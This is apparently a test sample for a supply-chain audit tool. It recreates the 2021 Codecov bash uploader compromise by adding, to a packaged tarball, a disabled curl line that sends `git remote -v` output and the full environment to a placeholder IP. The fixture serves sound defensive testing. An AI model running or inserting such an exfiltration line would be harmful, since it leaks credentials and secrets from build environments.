/**
 * Codecov bash uploader (2021): one line of the downloaded script was changed to send $(env) to a
 * remote host; the repository was clean and the published checksum was stale. The audit run
 * with the stale checksum must fail (exit 2); without it, the edit is a finding.
 */
import { defineSample } from "../lib/sample.js";

const uploader = '#!/usr/bin/env bash\n# Codecov Bash Uploader\nVERSION="1.0.3"\nurl="https://codecov.example"\nupload() {\n  curl -sX POST "$url/upload/v4?token=$token" --data-binary @"$file"\n}\nupload\n';
const git = { codecov: { content: uploader, mode: 0o755 }, "README.md": "Codecov bash uploader\n", "tests/test.sh": "#!/bin/sh\nbash ../codecov -h >/dev/null\n" };

export default defineSample({
  name: "codecov-bash",
  description: "codecov-bash 1.0.3: one changed line exfiltrates the environment; the published checksum is stale",
  history: [{ files: git, tag: "1.0.3" }],
  tarballName: "codecov-bash-1.0.3.tar.gz",
  root: "codecov-bash-1.0.3",
  tarball: {
    ...git,
    codecov: {
      content: uploader.replace("upload\n", "upload\n: curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" http://192.0.2.1/upload/v2 # distvet sample: disabled with ':'\n"),
      mode: 0o755,
    },
  },
  staleChecksum: true,
});
